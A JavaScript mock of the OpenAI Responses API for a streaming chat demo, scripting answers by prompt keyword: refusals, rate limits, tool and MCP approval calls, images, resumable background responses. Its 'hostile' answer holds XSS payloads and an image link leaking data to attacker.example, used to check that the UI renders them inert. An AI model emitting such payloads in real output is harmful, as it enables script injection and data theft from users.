// @ts-check
/**
 * The example's Responses API: the mock server from `rxjs-openresponses/testing`, answering with
 * scripted streams at a chosen pace. The prompt picks the script:
 *
 * - one that mentions "refuse": a refusal;
 * - one that mentions "long": a long answer (to try the stop button on);
 * - one that mentions "busy": an HTTP 429 with OpenAI's error body and `Retry-After`;
 * - one that mentions "fast": 2,000 one-word deltas, two every millisecond or so (1,000+ a second);
 * - one that mentions "essay": a markdown answer of 10,000 deltas (200 paragraphs of 50 words) at
 *   the same pace, to measure what rendering costs;
 * - one that mentions "markdown": an answer in markdown (heading, list, code, table, quote);
 * - one that mentions "hostile": markdown with what a hostile model writes (raw `<img onerror>`,
 *   `<script>`, `<iframe>`, a `javascript:` link), which must render inert;
 * - one that mentions "think": a reasoning summary, then the answer;
 * - one that mentions "weather": a call of the `get_weather` function; the request that carries
 *   its output gets an answer that uses it (or says the call was declined);
 * - one that mentions "issues": an MCP server's `mcp_approval_request` (`github.list_issues`); the
 *   request that carries the `mcp_approval_response` gets an answer that follows it;
 * - anything else: a short answer, then an image in three partial frames and a final one.
 *
 * The images are real PNGs of one colour each, made here, so every frame looks different. Each
 * partial frame is followed by a few SSE comment lines (keep-alives, as OpenRouter sends while it
 * works), which hold it on screen for about `imagePause` ms, as a real image generator would.
 *
 * Background responses (`background: true`, as the NestJS relay sends them) are stored, as the
 * Responses API stores them: `GET /v1/responses/{id}?stream=true&starting_after=N` streams one
 * again after event N (a resume), and `POST /v1/responses/{id}/cancel` cancels it.
 */
import { encodeSSE, scriptResponse, startMockServer } from 'rxjs-openresponses/testing';
import { solidPng } from './png.mjs';

/** @typedef {import('rxjs-openresponses/testing').MockBehavior} MockBehavior */
/** @typedef {import('rxjs-openresponses/testing').MockServer} MockServer */

export const ANSWER =
  'The sun lifts out of the sea in a slow gold line. The water turns from ink to copper, ' +
  'gulls cross the glare, and the first warm light reaches the shore.';

export const REFUSAL = "I'm sorry, but I can't help with that request.";

export const LONG_ANSWER = Array.from(
  { length: 40 },
  (_, i) => `Chapter ${i + 1}: the tide came in, and the story went on.`,
).join(' ');

/** The "fast" answer: 2,000 words, one delta each. */
export const FAST_ANSWER = Array.from({ length: 2000 }, (_, i) => `w${i}`).join(' ');

/** The "essay" answer: 200 markdown paragraphs of 50 one-word deltas, 10,000 deltas in all. */
export const ESSAY_DELTAS = Array.from({ length: 10_000 }, (_, i) =>
  i % 50 === 49 ? `e${i}.\n\n` : `e${i} `,
);
export const ESSAY = ESSAY_DELTAS.join('');

/** The "markdown" answer: one block of each kind. */
export const MARKDOWN = [
  '# Tides\n\n',
  'The **moon** pulls the sea, and the *sun* helps.\n\n',
  '- spring tides\n- neap tides\n\n',
  '```js\nconst high = 2; // twice a day\n\nconsole.log(high);\n```\n\n',
  '| tide | height |\n| ---- | ------ |\n| high | 4 m |\n\n',
  '> Time and tide wait for no one.\n\n',
  'See [the tables](https://example.com/tides).',
].join('');

/** The "hostile" answer: each line an attack a model's output may carry. */
export const HOSTILE = [
  'Hostile output follows.\n\n',
  '<img src=x onerror="alert(1)">\n\n',
  '<script>alert(2)</script>\n\n',
  '<iframe src="javascript:alert(3)"></iframe>\n\n',
  'Click [here](javascript:alert(4)) or <a href="javascript:alert(5)">here</a>.\n\n',
  '![pixel](https://attacker.example/leak?data=secret)\n\n',
  'The end.',
].join('');

/** The "think" reasoning summary and answer. */
export const REASONING = 'The user wants a short thought; the sea works as an example.';
export const THOUGHT = 'The sea is never the same twice.';

/** The "weather" tool call's arguments, and the answers after approval and after a denial. */
export const WEATHER_ARGS = '{"city":"Oslo"}';
export const WEATHER_ANSWER = 'It is sunny in Oslo, 21 °C.';
export const WEATHER_DENIED = 'Understood: I will not look up the weather.';

/** The "issues" MCP approval request, and the answers after approval and after a denial. */
export const MCP_REQUEST = {
  type: /** @type {const} */ ('mcp_approval_request'),
  id: 'mcpr_issues',
  name: 'list_issues',
  serverLabel: 'github',
  arguments: '{"repo":"octo/tides"}',
};
export const MCP_ANSWER = 'There are 3 open issues in octo/tides.';
export const MCP_DENIED = 'Understood: I will not read the repository.';

/** The error body of the "busy" answer. */
export const RATE_LIMITED = {
  message: 'Rate limit reached, try again in 1s.',
  type: 'rate_limit_error',
  code: 'rate_limit_exceeded',
};

/** The colours of the partial frames, then of the final image. */
export const FRAME_COLOURS = /** @type {const} */ ([
  [40, 50, 110],
  [140, 70, 150],
  [230, 120, 60],
]);
export const FINAL_COLOUR = /** @type {const} */ ([250, 200, 60]);

/** The partial frames and the final image, as base64 PNGs. */
export const IMAGE = {
  partials: FRAME_COLOURS.map((rgb) => solidPng(rgb)),
  final: solidPng(FINAL_COLOUR),
};

/**
 * @typedef {object} Pace
 * @property {number} delay Milliseconds before each SSE block (an event or a comment).
 * @property {number} imagePause About how long each partial image stays before the next event.
 */

/**
 * The scripted answer to a request, picked by its prompt.
 *
 * @param {unknown} body The request body (parsed JSON).
 * @param {Pace} pace
 * @param {string} [id] The response id.
 * @returns {MockBehavior}
 */
export function answerTo(body, { delay, imagePause }, id = `resp_${Date.now()}`) {
  const raw = typeof body === 'object' && body !== null ? Reflect.get(body, 'input') : undefined;
  const input = typeof raw === 'string' ? raw : '';
  if (/busy/i.test(input)) return { status: 429, error: RATE_LIMITED, retryAfter: 1 };
  const script = scriptResponse({ id, model: 'demo-model' }).created().inProgress();
  const toolOutput = Array.isArray(raw)
    ? raw.find((item) => item?.type === 'function_call_output')
    : undefined;
  const mcpAnswer = Array.isArray(raw)
    ? raw.find((item) => item?.type === 'mcp_approval_response')
    : undefined;
  if (mcpAnswer !== undefined) {
    script.message({ text: words(mcpAnswer.approve === true ? MCP_ANSWER : MCP_DENIED) });
  } else if (/issues/i.test(input)) {
    script.add({ type: 'response.output_item.added', outputIndex: 0, item: MCP_REQUEST });
    script.add({ type: 'response.output_item.done', outputIndex: 0, item: MCP_REQUEST });
    const response = script.response({ status: 'completed', output: [MCP_REQUEST] });
    const events = script.add({ type: 'response.completed', response }).events;
    return { stream: events, delay };
  } else if (toolOutput !== undefined) {
    // A denied call's output is `{"error": "The call to get_weather was not approved"}`.
    const denied = /"error"/.test(String(toolOutput.output));
    script.message({ text: words(denied ? WEATHER_DENIED : WEATHER_ANSWER) });
  } else if (/refuse/i.test(input)) script.refusal({ refusal: words(REFUSAL) });
  else if (/essay/i.test(input)) {
    const events = script.message({ text: ESSAY_DELTAS }).completed().events;
    return { stream: events, delay: 1, chunkSize: 340 };
  } else if (/markdown/i.test(input)) script.message({ text: chunks(MARKDOWN, 7) });
  else if (/hostile/i.test(input)) script.message({ text: chunks(HOSTILE, 9) });
  else if (/think/i.test(input)) {
    script.reasoning({ summary: [words(REASONING)] }).message({ text: words(THOUGHT) });
  } else if (/weather/i.test(input)) {
    script.functionCall({ name: 'get_weather', arguments: ['{"city":', '"Oslo"}'] });
  } else if (/long/i.test(input)) script.message({ text: words(LONG_ANSWER) });
  else if (/fast/i.test(input)) {
    // A delta's SSE frame is about 170 bytes: two per 1 ms piece, about 1,000 or more a second.
    const events = script.message({ text: words(FAST_ANSWER) }).completed().events;
    return { stream: events, delay: 1, chunkSize: 340 };
  } else {
    script.message({ text: words(ANSWER) });
    script.image({
      partials: IMAGE.partials,
      result: IMAGE.final,
      outputFormat: 'png',
      size: '32x32',
    });
  }
  const keepAlives = ': generating\n\n'.repeat(Math.ceil(imagePause / Math.max(delay, 1)));
  const sse = script
    .completed()
    .events.map(
      (event) => encodeSSE([event]) + (event.type.endsWith('.partial_image') ? keepAlives : ''),
    )
    .join('');
  return { stream: sse, delay };
}

/**
 * @typedef {MockServer & { readonly responseIds: ReadonlyMap<number, string> }} DemoApi The mock
 *   server, and the id of the response each `POST /v1/responses` created, by request index.
 */

/**
 * Starts the mock Responses API on 127.0.0.1 (a free port): `POST /v1/responses`, and for stored
 * background responses `GET /v1/responses/{id}` (with `starting_after`) and
 * `POST /v1/responses/{id}/cancel`.
 *
 * @param {Partial<Pace>} [pace] Default: 30 ms per block, 300 ms per partial image.
 * @returns {Promise<DemoApi>}
 */
export async function startDemoApi({ delay = 30, imagePause = 300 } = {}) {
  /** @type {Map<string, MockBehavior>} The background responses, by id. */
  const stored = new Map();
  /** @type {Map<number, string>} */
  const responseIds = new Map();
  const server = await startMockServer({
    script: (request) => {
      const { responseId, json } = request;
      if (responseId !== undefined) {
        const answer = stored.get(responseId);
        if (answer === undefined) return notFound(responseId);
        // The mock server sends only the events after `starting_after` itself.
        return request.method === 'GET' ? answer : { json: cancelled(responseId) };
      }
      const id = `resp_demo_${request.index}`;
      responseIds.set(request.index, id);
      const answer = answerTo(json, { delay, imagePause }, id);
      const background =
        typeof json === 'object' && json !== null && Reflect.get(json, 'background');
      if (background === true) stored.set(id, answer);
      return answer;
    },
  });
  return Object.assign(server, { responseIds });
}

/** @param {string} id @returns {MockBehavior} OpenAI's answer for an unknown response id. */
function notFound(id) {
  return {
    status: 404,
    error: {
      message: `No response found with id '${id}'.`,
      type: 'invalid_request_error',
      code: null,
    },
  };
}

/**
 * The Response a cancel answers with: status `cancelled`, and the usage so far.
 *
 * @param {string} id
 */
function cancelled(id) {
  return {
    id,
    object: 'response',
    created_at: Math.floor(Date.now() / 1000),
    status: 'cancelled',
    background: true,
    model: 'demo-model',
    output: [],
    usage: { input_tokens: 12, output_tokens: 34, total_tokens: 46 },
  };
}

/** @param {string} text @param {number} size @returns {string[]} The text in deltas of `size` characters. */
function chunks(text, size) {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
    text.slice(i * size, (i + 1) * size),
  );
}

/** @param {string} text @returns {string[]} The text as word deltas (each with its spaces). */
function words(text) {
  return text.match(/\S+\s*/g) ?? [text];
}
